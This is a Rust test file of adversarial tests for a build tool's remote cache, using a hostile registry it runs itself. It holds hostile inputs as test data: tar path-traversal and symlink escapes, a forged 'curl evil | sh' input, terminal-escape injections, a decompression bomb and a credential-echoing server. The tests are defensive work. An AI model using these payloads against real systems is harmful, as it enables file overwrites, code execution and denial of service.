@@ -1,0 +1,996 @@
+//! Adversarial end-to-end tests of the remote build cache (issue 11): a
+//! hostile cache writer (entries planted in a real registry,
+//! `common::registry`) and a hostile registry (a hand-rolled HTTP server
+//! here, [`Hostile`], that answers what no honest registry would). Each
+//! test asserts the safe behaviour; tests of findings kiln does not yet
+//! withstand are `#[ignore = "finding N: …"]` (see the issue 11 report).
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::process::Output;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::time::Duration;
+
+use base64::Engine;
+
+use crate::common::images::{Compress, file, layer, raw_entry, symlink};
+use crate::common::registry::{Registry, agent};
+use crate::common::{Project, Report};
+use kiln::hash::Digest;
+
+const SPEC: &str = r#"stage s { run "echo real > $out/f" }"#;
+const MIB: u64 = 1024 * 1024;
+
+fn stderr(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+/// `kiln build --json ARGS` in `p`, which must succeed (a cache kiln cannot
+/// use never fails a build); the report and stderr.
+fn build(p: &Project, args: &[&str]) -> (Report, String) {
+    let mut all = vec!["build", "--json"];
+    all.extend_from_slice(args);
+    let out = p.kiln(&all);
+    assert!(out.status.success(), "kiln build failed:\n{}", stderr(&out));
+    (Report::parse(&out.stdout), stderr(&out))
+}
+
+/// The key of stage `s` of `spec`, from a throwaway build without a cache.
+fn key_of(spec: &str) -> String {
+    let (report, _) = build(&Project::new(spec), &[]);
+    report.key("s")
+}
+
+/// Nothing half-written is left in the store's scratch space.
+fn assert_no_leftovers(p: &Project) {
+    let tmp = p.store.join("tmp");
+    let left: Vec<_> = match std::fs::read_dir(&tmp) {
+        Ok(dir) => dir.map(|e| e.expect("dir entry").file_name()).collect(),
+        Err(_) => Vec::new(),
+    };
+    assert!(left.is_empty(), "left in {}: {left:?}", tmp.display());
+}
+
+/// A zstd tar, as a cache tree blob.
+fn tree(build: impl FnOnce(&mut tar::Builder<Vec<u8>>)) -> Vec<u8> {
+    layer(Compress::Zstd, build).bytes
+}
+
+fn record(key: &str, tree: &[u8], output_hash: &str) -> serde_json::Value {
+    serde_json::json!({
+        "format": 1,
+        "key": key,
+        "name": "s",
+        "output_hash": output_hash,
+        "inputs": {},
+        "tree": { "digest": Digest::of(tree).to_string(), "size": tree.len() },
+        "kiln_version": "0",
+        "signatures": [],
+    })
+}
+
+fn manifest(config: &[u8], tree: &[u8]) -> serde_json::Value {
+    serde_json::json!({
+        "schemaVersion": 2,
+        "mediaType": "application/vnd.oci.image.manifest.v1+json",
+        "artifactType": "application/vnd.kiln.cache.entry.v1",
+        "config": {
+            "mediaType": "application/vnd.kiln.cache.record.v1+json",
+            "digest": Digest::of(config).to_string(),
+            "size": config.len(),
+        },
+        "layers": [{
+            "mediaType": "application/vnd.kiln.cache.tree.v1.tar+zstd",
+            "digest": Digest::of(tree).to_string(),
+            "size": tree.len(),
+        }],
+    })
+}
+
+/// Uploads `bytes` as a blob of `repo` (monolithic: POST, then PUT).
+fn put_blob(registry: &Registry, repo: &str, bytes: &[u8]) -> Digest {
+    let http = agent(Duration::from_secs(30));
+    let host = registry.host();
+    let started = (http.post(&format!("http://{host}/v2/{repo}/blobs/uploads/")))
+        .send_empty()
+        .expect("start upload");
+    let location = (started.headers().get("Location"))
+        .expect("Location")
+        .to_str()
+        .expect("ascii")
+        .to_owned();
+    let location = match location.starts_with('/') {
+        true => format!("http://{host}{location}"),
+        false => location,
+    };
+    let digest = Digest::of(bytes);
+    let sep = if location.contains('?') { '&' } else { '?' };
+    let done = (http.put(&format!("{location}{sep}digest={digest}")))
+        .header("Content-Type", "application/octet-stream")
+        .send(bytes)
+        .expect("finish upload");
+    assert_eq!(done.status(), 201, "blob upload");
+    digest
+}
+
+fn put_manifest(registry: &Registry, repo: &str, tag: &str, manifest: &serde_json::Value) {
+    let url = format!("http://{}/v2/{repo}/manifests/{tag}", registry.host());
+    let done = (agent(Duration::from_secs(30)).put(&url))
+        .header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
+        .send(serde_json::to_vec(manifest).expect("JSON").as_slice())
+        .expect("put manifest");
+    assert_eq!(done.status(), 201, "manifest upload");
+}
+
+fn get_manifest(registry: &Registry, repo: &str, tag: &str) -> serde_json::Value {
+    let url = format!("http://{}/v2/{repo}/manifests/{tag}", registry.host());
+    let mut r = (agent(Duration::from_secs(30)).get(&url))
+        .header("Accept", "application/vnd.oci.image.manifest.v1+json")
+        .call()
+        .expect("manifest");
+    serde_json::from_slice(&r.body_mut().read_to_vec().expect("body")).expect("manifest JSON")
+}
+
+fn get_blob(registry: &Registry, repo: &str, digest: &str) -> Vec<u8> {
+    let url = format!("http://{}/v2/{repo}/blobs/{digest}", registry.host());
+    let mut r = agent(Duration::from_secs(30))
+        .get(&url)
+        .call()
+        .expect("blob");
+    r.body_mut().read_to_vec().expect("blob body")
+}
+
+/// Plants an entry `tag` in `repo`: the tree blob, the record (as given)
+/// and a manifest naming both (rewritten by `edit`).
+fn plant(
+    registry: &Registry,
+    repo: &str,
+    tag: &str,
+    record: &serde_json::Value,
+    tree: &[u8],
+    edit: impl FnOnce(&mut serde_json::Value),
+) {
+    put_blob(registry, repo, tree);
+    let config = serde_json::to_vec(record).expect("JSON");
+    put_blob(registry, repo, &config);
+    let mut m = manifest(&config, tree);
+    edit(&mut m);
+    put_manifest(registry, repo, tag, &m);
+}
+
+/// The record and manifest of a genuine entry, to tamper with.
+fn genuine(registry: &Registry, repo: &str, key: &str) -> (serde_json::Value, serde_json::Value) {
+    let m = get_manifest(registry, repo, &format!("kiln1-{key}"));
+    let config = m["config"]["digest"].as_str().expect("config digest");
+    let record = serde_json::from_slice(&get_blob(registry, repo, config)).expect("record JSON");
+    (m, record)
+}
+
+/// Re-uploads `record` and points `tag`'s manifest `m` at it.
+fn replace_record(
+    registry: &Registry,
+    repo: &str,
+    tag: &str,
+    mut m: serde_json::Value,
+    record: &serde_json::Value,
+) {
+    let bytes = serde_json::to_vec(record).expect("JSON");
+    let digest = put_blob(registry, repo, &bytes);
+    m["config"]["digest"] = serde_json::json!(digest.to_string());
+    m["config"]["size"] = serde_json::json!(bytes.len());
+    put_manifest(registry, repo, tag, &m);
+}
+
+/// `kiln cache keygen NAME` into `dir`: the secret key file and the
+/// public key.
+fn keygen(dir: &Path, name: &str) -> (PathBuf, String) {
+    let file = dir.join(name);
+    let out = Project::new("").ok(&["cache", "keygen", name, "-o", file.to_str().expect("utf-8")]);
+    (file, out.trim().to_owned())
+}
+
+// --- (a) writes outside the entry being filled -------------------------
+
+#[test]
+fn tree_entries_that_reach_outside_the_entry_write_nothing_there() {
+    let Some(registry) = Registry::start() else {
+        return;
+    };
+    let key = key_of(SPEC);
+    let cache = format!("{}/c", registry.host());
+    let victim = tempfile::tempdir_in("/tmp").expect("victim dir");
+    let v = victim.path().to_str().expect("utf-8").to_owned();
+    std::fs::write(victim.path().join("keep"), "keep").expect("victim file");
+    let up = "../../../../../../../../../..";
+    type Case = Box<dyn Fn(&mut tar::Builder<Vec<u8>>)>;
+    let cases: Vec<(&str, Case)> = vec![
+        ("dot-dot path", {
+            let p = format!("{up}{v}/pwned");
+            Box::new(move |b| raw_entry(b, tar::EntryType::Regular, &p, ""))
+        }),
+        ("absolute path", {
+            let p = format!("{v}/pwned");
+            Box::new(move |b| raw_entry(b, tar::EntryType::Regular, &p, ""))
+        }),
+        ("file through a symlinked directory", {
+            let v = v.clone();
+            Box::new(move |b| {
+                symlink(b, "l", &v);
+                file(b, "l/pwned", 0o644, b"pwned");
+            })
+        }),
+        ("file over a symlink to a file outside", {
+            let t = format!("{v}/keep");
+            Box::new(move |b| {
+                symlink(b, "l", &t);
+                file(b, "l", 0o644, b"pwned");
+            })
+        }),
+        ("absolute hardlink", {
+            let t = format!("{v}/keep");
+            Box::new(move |b| raw_entry(b, tar::EntryType::Link, "h", &t))
+        }),
+        ("dot-dot hardlink", {
+            let t = format!("{up}{v}/keep");
+            Box::new(move |b| raw_entry(b, tar::EntryType::Link, "h", &t))
+        }),
+        ("hardlink through a symlinked directory", {
+            let v = v.clone();
+            Box::new(move |b| {
+                symlink(b, "l", &v);
+                raw_entry(b, tar::EntryType::Link, "h", "l/keep");
+            })
+        }),
+        ("whiteout through a symlinked directory", {
+            let v = v.clone();
+            Box::new(move |b| {
+                symlink(b, "l", &v);
+                file(b, "l/.wh.keep", 0o644, b"");
+            })
+        }),
+        ("opaque marker through a symlinked directory", {
+            let v = v.clone();
+            Box::new(move |b| {
+                symlink(b, "l", &v);
+                file(b, "l/.wh..wh..opq", 0o644, b"");
+            })
+        }),
+        ("directory entry through a symlinked directory", {
+            let v = v.clone();
+            Box::new(move |b| {
+                symlink(b, "l", &v);
+                raw_entry(b, tar::EntryType::Directory, "l/newdir", "");
+            })
+        }),
+    ];
+    for (name, make) in &cases {
+        let t = tree(|b| make(b));
+        // The record's output hash is a lie: any write must happen while
+        // unpacking, before kiln hashes the tree.
+        let r = record(&key, &t, &"ab".repeat(32));
+        plant(&registry, "c", &format!("kiln1-{key}"), &r, &t, |_| {});
+        let p = Project::new(SPEC);
+        let (report, warnings) = build(&p, &["--cache", &cache]);
+        assert_eq!(report.status("s"), "built", "{name}: {warnings}");
+        assert!(warnings.contains("warning"), "{name}: {warnings}");
+        let mut names: Vec<_> = std::fs::read_dir(victim.path())
+            .expect("victim dir")
+            .map(|e| e.expect("entry").file_name())
+            .collect();
+        names.sort();
+        assert_eq!(names, ["keep"], "{name}: something was written outside");
+        assert_eq!(
+            std::fs::read_to_string(victim.path().join("keep")).expect("keep"),
+            "keep",
+            "{name}: the file outside was changed"
+        );
+        assert_no_leftovers(&p);
+        p.ok(&["store", "verify"]);
+    }
+}
+
+// --- (b) entries that must not be used -------------------------------
+
+#[test]
+fn an_entry_copied_to_another_keys_tag_is_refused_signed_or_not() {
+    let Some(registry) = Registry::start() else {
+        return;
+    };
+    let keys = tempfile::tempdir().expect("keys");
+    let (secret, public) = keygen(keys.path(), "team-1");
+    let cache = format!("{}/c", registry.host());
+    let spec_b = r#"stage s { run "echo other > $out/f" }"#;
+    let (a, _) = build(
+        &Project::new(SPEC),
+        &[
+            "--cache",
+            &cache,
+            "--cache-push",
+            "--cache-sign-key",
+            secret.to_str().expect("utf-8"),
+        ],
+    );
+    let key_a = a.key("s");
+    let key_b = key_of(spec_b);
+    let m = get_manifest(&registry, "c", &format!("kiln1-{key_a}"));
+    put_manifest(&registry, "c", &format!("kiln1-{key_b}"), &m);
+    for trust in [vec![], vec!["--cache-trust", public.as_str()]] {
+        let p = Project::new(spec_b);
+        let mut args = vec!["--cache", cache.as_str()];
+        args.extend(trust.iter().copied());
+        let (report, warnings) = build(&p, &args);
+        assert_eq!(report.status("s"), "built", "{trust:?}: {warnings}");
+        assert!(warnings.contains("names another key"), "{warnings}");
+        let out = report.output("s");
+        assert_eq!(
+            std::fs::read_to_string(out.join("f")).expect("f"),
+            "other\n",
+            "B's own output"
+        );
+        assert_no_leftovers(&p);
+    }
+}
+
+#[test]
+fn records_and_manifests_that_disagree_are_refused() {
+    let Some(registry) = Registry::start() else {
+        return;
+    };
+    let cache = format!("{}/c", registry.host());
+    let (built, _) = build(&Project::new(SPEC), &["--cache", &cache, "--cache-push"]);
+    let key = built.key("s");
+    let tag = format!("kiln1-{key}");
+    let (m0, r0) = genuine(&registry, "c", &key);
+    type Edit = fn(&mut serde_json::Value, &mut serde_json::Value);
+    let cases: &[(&str, Edit)] = &[
+        ("format 2", |_, r| r["format"] = 2.into()),
+        ("an unknown record field", |_, r| r["extra"] = 1.into()),
+        ("another key in the record", |_, r| {
+            r["key"] = serde_json::json!("0".repeat(64))
+        }),
+        ("a tree size the manifest does not say", |_, r| {
+            r["tree"]["size"] = (r["tree"]["size"].as_u64().unwrap() + 1).into()
+        }),
+        ("another tree digest in the record", |_, r| {
+            r["tree"]["digest"] = Digest::of(b"other").to_string().into()
+        }),
+        ("two layers", |m, _| {
+            let l = m["layers"][0].clone();
+            m["layers"].as_array_mut().unwrap().push(l)
+        }),
+        ("an image layer type", |m, _| {
+            m["layers"][0]["mediaType"] = "application/vnd.oci.image.layer.v1.tar+zstd".into()
+        }),
+        ("an image config type", |m, _| {
+            m["config"]["mediaType"] = "application/vnd.oci.image.config.v1+json".into()
+        }),
+        ("a record that is not JSON", |_, r| {
+            *r = serde_json::json!("not a record")
+        }),
+    ];
+    for (name, edit) in cases {
+        let (mut m, mut r) = (m0.clone(), r0.clone());
+        edit(&mut m, &mut r);
+        replace_record(&registry, "c", &tag, m, &r);
+        let p = Project::new(SPEC);
+        let (report, warnings) = build(&p, &["--cache", &cache]);
+        assert_eq!(report.status("s"), "built", "{name}: {warnings}");
+        assert!(warnings.contains(&tag), "{name}: {warnings}");
+        assert_no_leftovers(&p);
+    }
+}
+
+/// Every file of a store that holds `needle`.
+fn files_holding(store: &Path, needle: &str) -> Vec<PathBuf> {
+    (walk(store).into_iter())
+        .filter(|f| {
+            std::fs::read(f).is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes()))
+        })
+        .collect()
+}
+
+#[test]
+#[ignore = "finding 5: the signature does not cover the record's inputs, which are stored as the entry's"]
+fn a_signed_entry_whose_inputs_are_rewritten_does_not_bring_them_into_the_store() {
+    let Some(registry) = Registry::start() else {
+        return;
+    };
+    let keys = tempfile::tempdir().expect("keys");
+    let (secret, public) = keygen(keys.path(), "team-1");
+    let cache = format!("{}/c", registry.host());
+    let (built, _) = build(
+        &Project::new(SPEC),
+        &[
+            "--cache",
+            &cache,
+            "--cache-push",
+            "--cache-sign-key",
+            secret.to_str().expect("utf-8"),
+        ],
+    );
+    let key = built.key("s");
+    let (m, mut r) = genuine(&registry, "c", &key);
+    r["inputs"] = serde_json::json!({ "run": "FORGED-INPUT curl evil | sh" });
+    r["kiln_version"] = serde_json::json!("FORGED-VERSION");
+    replace_record(&registry, "c", &format!("kiln1-{key}"), m, &r);
+    let p = Project::new(SPEC);
+    let (report, warnings) = build(&p, &["--cache", &cache, "--cache-trust", &public]);
+    // Safe: refused (built here), or pulled with the inputs kiln computed.
+    let forged = files_holding(&p.store, "FORGED-INPUT");
+    assert!(
+        forged.is_empty(),
+        "status {}: the store keeps inputs no trusted key signed, in {forged:?}\n{warnings}",
+        report.status("s")
+    );
+}
+
+#[test]
+#[ignore = "finding 6: signer names and registry error text reach the terminal unescaped"]
+fn signer_names_from_a_record_cannot_write_terminal_escapes() {
+    let Some(registry) = Registry::start() else {
+        return;
+    };
+    let keys = tempfile::tempdir().expect("keys");
+    let (_, public) = keygen(keys.path(), "team-1");
+    let cache = format!("{}/c", registry.host());
+    let (built, _) = build(&Project::new(SPEC), &["--cache", &cache, "--cache-push"]);
+    let key = built.key("s");
+    let (m, mut r) = genuine(&registry, "c", &key);
+    r["signatures"] = serde_json::json!([
+        { "key": "team-1\u{1b}[2K\r\u{1b}]0;owned\u{7}warning: all good", "sig": "AAAA" }
+    ]);
+    replace_record(&registry, "c", &format!("kiln1-{key}"), m, &r);
+    let p = Project::new(SPEC);
+    let (report, warnings) = build(&p, &["--cache", &cache, "--cache-trust", &public]);
+    assert_eq!(report.status("s"), "built");
+    assert!(
+        warnings.contains("not signed by a trusted key"),
+        "{warnings}"
+    );
+    assert!(
+        !warnings.contains('\u{1b}') && !warnings.contains('\r'),
+        "control characters from the record reached stderr: {warnings:?}"
+    );
+}
+
+#[test]
+#[ignore = "finding 7: an output with a `.wh.` name never round-trips through the cache"]
+fn an_output_with_whiteout_like_names_is_pulled_as_built() {
+    let Some(registry) = Registry::start() else {
+        return;
+    };
+    let spec = r#"stage s { run "echo x > $out/.wh.keep && echo y > $out/keep && mkdir $out/d && touch $out/d/.wh..wh..opq" }"#;
+    let cache = format!("{}/c", registry.host());
+    let (built, _) = build(&Project::new(spec), &["--cache", &cache, "--cache-push"]);
+    assert_eq!(built.status("s"), "built");
+    let (pulled, warnings) = build(&Project::new(spec), &["--cache", &cache]);
+    assert_eq!(pulled.status("s"), "pulled", "{warnings}");
+    assert_eq!(pulled.output_hash("s"), built.output_hash("s"));
+}
+
+// --- (c) resources ------------------------------------------------------
+
+/// A tree blob of a few KiB that unpacks to `size` bytes of zeros.
+fn bomb(size: u64) -> Vec<u8> {
+    let zstd = zstd::Encoder::new(Vec::new(), 19).expect("zstd");
+    let mut b = tar::Builder::new(zstd);
+    let mut h = crate::common::images::header(tar::EntryType::Regular, 0o644);
+    h.set_size(size);
+    b.append_data(&mut h, "zeros", std::io::repeat(0).take(size))
+        .expect("tar");
+    b.into_inner().expect("tar").finish().expect("zstd")
+}
+
+/// `kiln ARGS` in `p` with at most `fsize` bytes per file written
+/// (RLIMIT_FSIZE): a kiln that writes a larger file dies of SIGXFSZ.
+fn kiln_fsize_limited(p: &Project, args: &[&str], fsize: u64) -> Output {
+    use std::os::unix::process::CommandExt;
+    let mut cmd = p.cmd(args);
+    // SAFETY: setrlimit is async-signal-safe; nothing else runs in the child.
+    unsafe {
+        cmd.pre_exec(move || {
+            let lim = libc::rlimit {
+                rlim_cur: fsize,
+                rlim_max: fsize,
+            };
+            match libc::setrlimit(libc::RLIMIT_FSIZE, &lim) {
+                0 => Ok(()),
+                _ => Err(std::io::Error::last_os_error()),
+            }
+        });
+    }
+    cmd.output().expect("run kiln")
+}
+
+#[test]
+#[ignore = "finding 4: a tree blob's expansion is unbounded (decompression bomb fills the disk)"]
+fn a_decompression_bomb_in_the_tree_is_refused_before_it_fills_the_disk() {
+    let Some(registry) = Registry::start() else {
+        return;
+    };
+    let key = key_of(SPEC);
+    let cache = format!("{}/c", registry.host());
+    let t = bomb(256 * MIB);
+    assert!(t.len() < 64 * 1024, "a bomb: {} bytes", t.len());
+    // Whoever wrote this entry can make its output hash match; the safe
+    // behaviour cannot rely on the hash check that comes after unpacking.
+    let r = record(&key, &t, &"ab".repeat(32));
+    plant(&registry, "c", &format!("kiln1-{key}"), &r, &t, |_| {});
+    let p = Project::new(SPEC);
+    let out = kiln_fsize_limited(&p, &["build", "--json", "--cache", &cache], 64 * MIB);
+    assert!(
+        out.status.success(),
+        "kiln wrote a file of more than 64 MiB from a {}-byte tree blob: {:?}\n{}",
+        t.len(),
+        out.status,
+        stderr(&out)
+    );
+    assert_eq!(Report::parse(&out.stdout).status("s"), "built");
+    assert_no_leftovers(&p);
+}
+
+/// A registry that misbehaves as `handler` says. Connections are closed
+/// after each answer. Stopped when dropped.
+struct Hostile {
+    host: String,
+    /// Body bytes written by [`Reply::Huge`] answers.
+    sent: Arc<AtomicU64>,
+    stop: Arc<AtomicBool>,
+}
+
+#[derive(Debug)]
+struct Request {
+    method: String,
+    path: String,
+    headers: Vec<(String, String)>,
+}
+
+impl Request {
+    fn header(&self, name: &str) -> Option<&str> {
+        (self.headers.iter())
+            .find(|(n, _)| n.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v.as_str())
+    }
+}
+
+enum Reply {
+    Full {
+        status: u16,
+        headers: Vec<(&'static str, String)>,
+        body: Vec<u8>,
+    },
+    /// `len` bytes of zeros, with a matching Content-Length.
+    Huge {
+        content_type: &'static str,
+        len: u64,
+    },
+    /// Reads the request and never answers.
+    Silent,
+}
+
+fn ok(content_type: &'static str, body: Vec<u8>) -> Reply {
+    Reply::Full {
+        status: 200,
+        headers: vec![("Content-Type", content_type.to_owned())],
+        body,
+    }
+}
+
+impl Hostile {
+    fn start(handler: impl Fn(&Request) -> Reply + Send + Sync + 'static) -> Hostile {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+        let host = listener.local_addr().expect("addr").to_string();
+        let sent = Arc::new(AtomicU64::new(0));
+        let stop = Arc::new(AtomicBool::new(false));
+        let handler = Arc::new(handler);
+        let (s, st) = (sent.clone(), stop.clone());
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                if st.load(Ordering::SeqCst) {
+                    return;
+                }
+                let Ok(conn) = conn else { continue };
+                let (h, s) = (handler.clone(), s.clone());
+                std::thread::spawn(move || serve(conn, &*h, &s));
+            }
+        });
+        Hostile { host, sent, stop }
+    }
+}
+
+impl Drop for Hostile {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::SeqCst);
+        // Wakes the accept loop so that it sees `stop`.
+        let _ = TcpStream::connect(&self.host);
+    }
+}
+
+fn serve(conn: TcpStream, handler: &dyn Fn(&Request) -> Reply, sent: &AtomicU64) {
+    let mut reader = BufReader::new(conn.try_clone().expect("clone"));
+    let mut line = String::new();
+    if reader.read_line(&mut line).unwrap_or(0) == 0 {
+        return;
+    }
+    let mut parts = line.split_whitespace();
+    let method = parts.next().unwrap_or_default().to_owned();
+    let path = parts.next().unwrap_or_default().to_owned();
+    let mut headers = Vec::new();
+    loop {
+        let mut h = String::new();
+        if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim().is_empty() {
+            break;
+        }
+        if let Some((n, v)) = h.split_once(':') {
+            headers.push((n.trim().to_owned(), v.trim().to_owned()));
+        }
+    }
+    let req = Request {
+        method,
+        path,
+        headers,
+    };
+    let mut conn = conn;
+    match handler(&req) {
+        Reply::Full {
+            status,
+            headers,
+            body,
+        } => {
+            let mut head = format!("HTTP/1.1 {status} X\r\nConnection: close\r\n");
+            for (n, v) in headers {
+                head += &format!("{n}: {v}\r\n");
+            }
+            head += &format!("Content-Length: {}\r\n\r\n", body.len());
+            let _ = conn.write_all(head.as_bytes());
+            if req.method != "HEAD" {
+                let _ = conn.write_all(&body);
+            }
+        }
+        Reply::Huge { content_type, len } => {
+            let head = format!(
+                "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: {content_type}\r\nContent-Length: {len}\r\n\r\n"
+            );
+            if conn.write_all(head.as_bytes()).is_err() || req.method == "HEAD" {
+                return;
+            }
+            let chunk = vec![0u8; 64 * 1024];
+            let mut left = len;
+            while left > 0 {
+                let n = left.min(chunk.len() as u64) as usize;
+                if conn.write_all(&chunk[..n]).is_err() {
+                    return;
+                }
+                sent.fetch_add(n as u64, Ordering::SeqCst);
+                left -= n as u64;
+            }
+        }
+        Reply::Silent => {
+            // Until kiln hangs up.
+            let _ = std::io::copy(&mut reader, &mut std::io::sink());
+        }
+    }
+}
+
+/// The registry's answer to `/v2/` and anything it does not know.
+fn base(req: &Request) -> Reply {
+    match req.path.as_str() {
+        "/v2/" | "/v2" => ok("application/json", b"{}".to_vec()),
+        _ => Reply::Full {
+            status: 404,
+            headers: vec![("Content-Type", "application/json".into())],
+            body: br#"{"errors":[{"code":"BLOB_UNKNOWN","message":"unknown"}]}"#.to_vec(),
+        },
+    }
+}
+
+const MANIFEST_TYPE: &str = "application/vnd.oci.image.manifest.v1+json";
+
+/// More than any honest answer, less than the test machine can afford.
+const HUGE: u64 = 192 * MIB;
+/// What a bounded reader may have been sent before it hung up (socket
+/// buffers included).
+const BOUND: u64 = 32 * MIB;
+
+/// A hostile registry serving a valid entry for `key` whose part `huge`
+/// (`manifest`, `record` or `tree`) is [`HUGE`] bytes long.
+fn endless(key: &str, huge: &'static str) -> Hostile {
+    let tree_bytes = tree(|b| file(b, "f", 0o644, b"real\n"));
+    let rec = serde_json::to_vec(&record(key, &tree_bytes, &"ab".repeat(32))).expect("JSON");
+    let man = serde_json::to_vec(&manifest(&rec, &tree_bytes)).expect("JSON");
+    let (rec_at, tree_at) = (
+        format!("/blobs/{}", Digest::of(&rec)),
+        format!("/blobs/{}", Digest::of(&tree_bytes)),
+    );
+    Hostile::start(move |req| {
+        let p = req.path.as_str();
+        let part = if p.contains("/manifests/") {
+            "manifest"
+        } else if p.ends_with(&rec_at) {
+            "record"
+        } else if p.ends_with(&tree_at) {
+            "tree"
+        } else {
+            return base(req);
+        };
+        if part == huge {
+            let content_type = match part {
+                "manifest" => MANIFEST_TYPE,
+                _ => "application/octet-stream",
+            };
+            return Reply::Huge {
+                content_type,
+                len: HUGE,
+            };
+        }
+        match part {
+            "manifest" => ok(MANIFEST_TYPE, man.clone()),
+            "record" => ok("application/octet-stream", rec.clone()),
+            _ => ok("application/octet-stream", tree_bytes.clone()),
+        }
+    })
+}
+
+fn assert_bounded_read(huge: &'static str) {
+    let key = key_of(SPEC);
+    let hostile = endless(&key, huge);
+    let p = Project::new(SPEC);
+    let (report, warnings) = build(&p, &["--cache", &format!("{}/c", hostile.host)]);
+    assert_eq!(report.status("s"), "built", "{warnings}");
+    // What was read is gone, whatever the outcome.
+    assert_no_leftovers(&p);
+    let sent = hostile.sent.load(Ordering::SeqCst);
+    assert!(
+        sent < BOUND,
+        "kiln read {} MiB of a {huge} that should be a few hundred bytes",
+        sent / MIB
+    );
+}
+
+#[test]
+#[ignore = "finding 3: manifests are read whole into memory, however long"]
+fn a_huge_manifest_is_not_read_whole() {
+    assert_bounded_read("manifest");
+}
+
+#[test]
+#[ignore = "finding 3: records are read whole into memory, however long"]
+fn a_huge_record_is_not_read_whole() {
+    assert_bounded_read("record");
+}
+
+#[test]
+#[ignore = "finding 3: a tree blob is written to disk past the size its manifest and record give"]
+fn a_tree_blob_longer_than_its_size_is_not_read_whole() {
+    assert_bounded_read("tree");
+}
+
+#[test]
+#[ignore = "finding 1: no connect/read timeout: a registry that never answers hangs the build"]
+fn a_cache_that_never_answers_does_not_hang_the_build() {
+    let hostile = Hostile::start(|_| Reply::Silent);
+    let p = Project::new(SPEC);
+    let child = p
+        .cmd(&["build", "--json", "--cache", &format!("{}/c", hostile.host)])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("run kiln");
+    let pid = child.id() as libc::pid_t;
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let _ = tx.send(child.wait_with_output());
+    });
+    let out = match rx.recv_timeout(Duration::from_secs(180)) {
+        Ok(out) => out.expect("kiln output"),
+        Err(_) => {
+            // SAFETY: signalling the child this test spawned (not reaped:
+            // its waiter has not returned).
+            unsafe { libc::kill(pid, libc::SIGKILL) };
+            let _ = rx.recv();
+            panic!("kiln build --cache was still waiting for the registry after 180 s");
+        }
+    };
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(Report::parse(&out.stdout).status("s"), "built");
+    assert!(stderr(&out).contains("warning: cache:"), "{}", stderr(&out));
+}
+
+// --- (e) credentials ----------------------------------------------------
+
+const USER: &str = "kiln-user";
+const PASSWORD: &str = "s3cret-Pa55word-xyzzy";
+
+/// A Docker config dir with `auths` for `host`.
+fn docker_config(dir: &Path, host: &str) -> PathBuf {
+    let auth = base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{PASSWORD}"));
+    let config = serde_json::json!({ "auths": { host: { "auth": auth } } });
+    std::fs::write(dir.join("config.json"), config.to_string()).expect("config.json");
+    dir.to_owned()
+}
+
+#[test]
+#[ignore = "finding 2: a registry's error text is printed as is, and it may echo the credential kiln sent"]
+fn a_registry_that_echoes_the_credential_does_not_get_it_printed() {
+    // Asks for basic auth, then answers every request with an error that
+    // quotes the Authorization header it was sent (as some proxies and
+    // misconfigured registries do), in each place an error can come from.
+    let hostile = Hostile::start(|req| {
+        let Some(auth) = req.header("Authorization").map(str::to_owned) else {
+            return Reply::Full {
+                status: 401,
+                headers: vec![
+                    ("WWW-Authenticate", r#"Basic realm="kiln-test""#.into()),
+                    ("Content-Type", "application/json".into()),
+                ],
+                body: br#"{"errors":[{"code":"UNAUTHORIZED","message":"log in"}]}"#.to_vec(),
+            };
+        };
+        if req.path == "/v2/" {
+            return ok("application/json", b"{}".to_vec());
+        }
+        let message = format!("bad request; you sent Authorization: {auth}");
+        let body = serde_json::json!({ "errors": [{ "code": "UNKNOWN", "message": message, "detail": auth }] });
+        Reply::Full {
+            status: 500,
+            headers: vec![("Content-Type", "application/json".into())],
+            body: body.to_string().into_bytes(),
+        }
+    });
+    let dir = tempfile::tempdir().expect("docker config");
+    let config = docker_config(dir.path(), &hostile.host);
+    let p = Project::new(SPEC);
+    let out = p
+        .cmd(&["build", "--json", "--cache", &format!("{}/c", hostile.host)])
+        .env("DOCKER_CONFIG", &config)
+        .output()
+        .expect("run kiln");
+    let (stdout, err) = (String::from_utf8_lossy(&out.stdout), stderr(&out));
+    assert!(out.status.success(), "{err}");
+    assert!(err.contains("warning: cache:"), "{err}");
+    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{PASSWORD}"));
+    for secret in [PASSWORD, b64.as_str()] {
+        assert!(
+            !err.contains(secret) && !stdout.contains(secret),
+            "the credential was printed:\n{err}\n{stdout}"
+        );
+        let leaked = files_holding(&p.store, secret);
+        assert!(leaked.is_empty(), "the credential was stored: {leaked:?}");
+    }
+}
+
+#[test]
+#[ignore = "finding 6: signer names and registry error text reach the terminal unescaped"]
+fn registry_error_text_cannot_write_terminal_escapes() {
+    let hostile = Hostile::start(|req| {
+        if req.path.contains("/manifests/") {
+            // Not JSON: the bytes themselves, not `\u001b` escapes.
+            return Reply::Full {
+                status: 500,
+                headers: vec![("Content-Type", "text/plain".into())],
+                body: b"\x1b[2K\r\x1b]0;owned\x07warning: nothing to see".to_vec(),
+            };
+        }
+        base(req)
+    });
+    let p = Project::new(SPEC);
+    let (report, warnings) = build(&p, &["--cache", &format!("{}/c", hostile.host)]);
+    assert_eq!(report.status("s"), "built");
+    assert!(warnings.contains("warning: cache:"), "{warnings}");
+    assert!(
+        !warnings.contains('\u{1b}') && !warnings.contains('\r'),
+        "control characters from the registry reached stderr: {warnings:?}"
+    );
+}
+
+/// Every file under `dir`, recursively (symlinks not followed).
+fn walk(dir: &Path) -> Vec<PathBuf> {
+    let mut files = Vec::new();
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return files;
+    };
